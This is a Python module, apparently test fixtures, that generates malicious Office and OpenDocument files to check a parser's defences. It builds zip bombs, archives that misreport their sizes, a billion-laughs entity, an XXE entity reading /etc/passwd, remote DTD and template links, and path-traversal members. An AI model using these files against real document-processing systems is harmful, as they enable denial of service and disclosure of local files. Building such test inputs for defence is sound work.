"""Word and other zipped files that are made to hurt: floods, lies about sizes, entities, ways out of the archive."""

from __future__ import annotations

import struct
import zipfile
from collections.abc import Mapping
from pathlib import Path

_MEBIBYTE = 1 << 20
_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/><Default Extension="png" ContentType="image/png"/>'
    '<Override PartName="/word/document.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
_RELS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    f'<Relationship Id="rId1" Type="{_R}/officeDocument" Target="word/document.xml"/></Relationships>'
)
_OPEN = f'<w:document xmlns:w="{_W}" xmlns:r="{_R}"><w:body>'
_CLOSE = "</w:body></w:document>"
_HELLO = "<w:p><w:r><w:t>Plain words before it</w:t></w:r></w:p>"


def write_word(
    path: Path, body: str = _HELLO, *, prolog: str = "", relations: str = "", more: Mapping[str, bytes] | None = None
) -> None:
    """A small Word file. `prolog` stands before the document's root, `relations` in its relationships."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        _frame(archive, relations)
        archive.writestr("word/document.xml", f'<?xml version="1.0"?>{prolog}{_OPEN}{body}{_CLOSE}')
        for name, data in (more or {}).items():
            archive.writestr(name, data)


def word_text(path: Path, mebibytes: int = 400) -> None:
    """One paragraph of so much text."""
    _flooded(path, "<w:p><w:r><w:t>", b"word " * (_MEBIBYTE // 5), mebibytes, "</w:t></w:r></w:p>")


def word_paragraphs(path: Path, paragraphs: int = 16_000_000) -> None:
    """As many empty paragraphs: 174 kB that take 2 GB."""
    _flooded(path, "", b"<w:p/>" * 10_000, max(1, paragraphs // 10_000), "")


def word_media(path: Path, mebibytes: int = 1024) -> None:
    """A picture of zeros that no paragraph shows."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        _frame(archive, f'<Relationship Id="rId9" Type="{_R}/image" Target="media/image1.png"/>')
        archive.writestr("word/document.xml", f"{_OPEN}{_HELLO}{_CLOSE}")
        with archive.open("word/media/image1.png", "w", force_zip64=True) as part:
            for _ in range(mebibytes):
                part.write(bytes(_MEBIBYTE))


def word_lying(path: Path, mebibytes: int = 400, *, claimed: int = 1000) -> None:
    """The same flood of text, with a directory that says the part has `claimed` bytes."""
    word_text(path, mebibytes)
    data = bytearray(path.read_bytes())
    for signature, offset in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        at = data.find(b"word/document.xml")
        while at >= 0:
            start = at - (46 if signature == b"PK\x01\x02" else 30)
            if data[start : start + 4] == signature:
                struct.pack_into("<I", data, start + offset, claimed)
            at = data.find(b"word/document.xml", at + 1)
    path.write_bytes(bytes(data))


def word_members(path: Path, members: int = 100_000) -> None:
    """As many empty members."""
    with zipfile.ZipFile(path, "w") as archive:
        _frame(archive, "")
        archive.writestr("word/document.xml", f"{_OPEN}{_HELLO}{_CLOSE}")
        for number in range(members):
            archive.writestr(f"word/media/{number}", b"")


def word_laughs(path: Path) -> None:
    """Entities of entities: a billion of them."""
    levels = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    prolog = f'<!DOCTYPE w [<!ENTITY l0 "lol">{levels}]>'
    write_word(path, "<w:p><w:r><w:t>&l9;</w:t></w:r></w:p>", prolog=prolog)


def word_entity(path: Path, address: str = "file:///etc/passwd") -> None:
    """A paragraph that is a file of the machine, if it is let."""
    prolog = f'<!DOCTYPE w [<!ENTITY x SYSTEM "{address}">]>'
    write_word(path, "<w:p><w:r><w:t>before &x; after</w:t></w:r></w:p>", prolog=prolog)


def word_dtd(path: Path, address: str = "http://127.0.0.1:9/evil.dtd") -> None:
    """A document type that stands elsewhere."""
    write_word(path, prolog=f'<!DOCTYPE w SYSTEM "{address}">')


def word_relations(path: Path, address: str = "http://127.0.0.1:9/picture.png") -> None:
    """A picture and a template that stand elsewhere, and a part above the archive."""
    relations = (
        f'<Relationship Id="rId7" Type="{_R}/image" Target="{address}" TargetMode="External"/>'
        f'<Relationship Id="rId8" Type="{_R}/attachedTemplate" Target="{address}" TargetMode="External"/>'
        f'<Relationship Id="rId9" Type="{_R}/image" Target="../../../../etc/passwd"/>'
    )
    write_word(path, relations=relations)


def word_climbing(path: Path) -> None:
    """A member whose name leads out of any folder that it would be unpacked to."""
    write_word(path, more={"../../../../tmp/climbed.txt": b"out"})


def word_deep(path: Path, depth: int = 100_000) -> None:
    """Controls in controls in controls."""
    write_word(path, "<w:sdt><w:sdtContent>" * depth + _HELLO + "</w:sdtContent></w:sdt>" * depth)


def write_open(path: Path, picture: str, text: str) -> None:
    """An OpenDocument text with a picture and a section that stand elsewhere, at these addresses."""
    spaces = "".join(
        f' xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{space}:1.0"'
        for name, space in (("office", "office"), ("text", "text"), ("draw", "drawing"), ("svg", "svg-compatible"))
    )
    link = 'xlink:type="simple" xlink:href'
    body = (
        "<text:p>from an open document</text:p>"
        '<text:p><draw:frame svg:width="5cm" svg:height="5cm" text:anchor-type="as-char">'
        f'<draw:image {link}="{picture}" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame></text:p>'
        f'<text:section text:name="S"><text:section-source {link}="{text}"/><text:p>as it was</text:p></text:section>'
    )
    kind = "application/vnd.oasis.opendocument.text"
    files = "".join(
        f'<m:file-entry m:full-path="{name}" m:media-type="{media}"/>'
        for name, media in (("/", kind), ("content.xml", "text/xml"))
    )
    manifest = f'<m:manifest xmlns:m="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">{files}</m:manifest>'
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("mimetype", kind)
        archive.writestr("META-INF/manifest.xml", manifest)
        archive.writestr(
            "content.xml",
            f'<office:document-content{spaces} xmlns:xlink="http://www.w3.org/1999/xlink" office:version="1.2">'
            f"<office:body><office:text>{body}</office:text></office:body></office:document-content>",
        )


def sheet_flood(path: Path, mebibytes: int = 400) -> None:
    """A workbook of one sheet that unpacks to so much."""
    main = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    space = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        types = _TYPES.partition("<Override")[0]
        for name, kind in (("workbook", "sheet.main"), ("worksheets/sheet1", "worksheet")):
            types += f'<Override PartName="/xl/{name}.xml" ContentType="{main}.{kind}+xml"/>'
        archive.writestr("[Content_Types].xml", types + "</Types>")
        archive.writestr("_rels/.rels", _RELS.replace("word/document.xml", "xl/workbook.xml"))
        archive.writestr(
            "xl/workbook.xml",
            f'<workbook xmlns="{space}" xmlns:r="{_R}"><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets>'
            "</workbook>",
        )
        rels = _RELS.replace(f"{_R}/officeDocument", f"{_R}/worksheet")
        archive.writestr("xl/_rels/workbook.xml.rels", rels.replace("word/document.xml", "worksheets/sheet1.xml"))
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as part:
            part.write(f'<worksheet xmlns="{space}"><sheetData>'.encode())
            row = b'<row><c t="inlineStr"><is><t>x</t></is></c></row>'
            for _ in range(mebibytes):
                part.write(row * (_MEBIBYTE // len(row)))
            part.write(b"</sheetData></worksheet>")


def _frame(archive: zipfile.ZipFile, relations: str) -> None:
    archive.writestr("[Content_Types].xml", _TYPES)
    archive.writestr("_rels/.rels", _RELS)
    if relations:
        own = (
            '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        )
        archive.writestr("word/_rels/document.xml.rels", f"{own}{relations}</Relationships>")


def _flooded(path: Path, before: str, block: bytes, times: int, after: str) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        _frame(archive, "")
        with archive.open("word/document.xml", "w", force_zip64=True) as part:
            part.write((_OPEN + before).encode())
            for _ in range(times):
                part.write(block)
            part.write((after + _CLOSE).encode())
